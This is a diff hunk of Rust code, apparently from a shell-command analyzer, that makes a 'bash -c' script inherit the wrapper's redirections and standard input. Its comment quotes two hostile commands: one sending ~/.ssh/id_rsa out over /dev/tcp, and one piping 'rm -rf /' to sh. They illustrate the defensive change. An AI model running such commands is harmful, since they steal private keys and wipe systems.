@@ -997,9 +997,14 @@ impl Walker {
                     if script.remote.is_some() {
                         inner.remote.clone_from(&script.remote);
                     }
-                    // Only the script's own redirections apply inside.
-                    inner.redirects.clear();
-                    inner.stdin = None;
+                    // The wrapper's redirections and standard input are the script's: `bash -c
+                    // cat < ~/.ssh/id_rsa > /dev/tcp/h/80` has `cat` read the key and write
+                    // to the network, and `bash -c sh <<< 'rm -rf /'` has `sh` read the
+                    // here-string. Every command inside gets them, which over-approximates
+                    // one that redirects its own.
+                    if let Some(caveat) = &script.caveat {
+                        self.problem(ProblemKind::Opaque, caveat.clone());
+                    }
                     match script.text.as_literal() {
                         Some(text) => self.script(text, depth + 1, &inner),
                         None => {
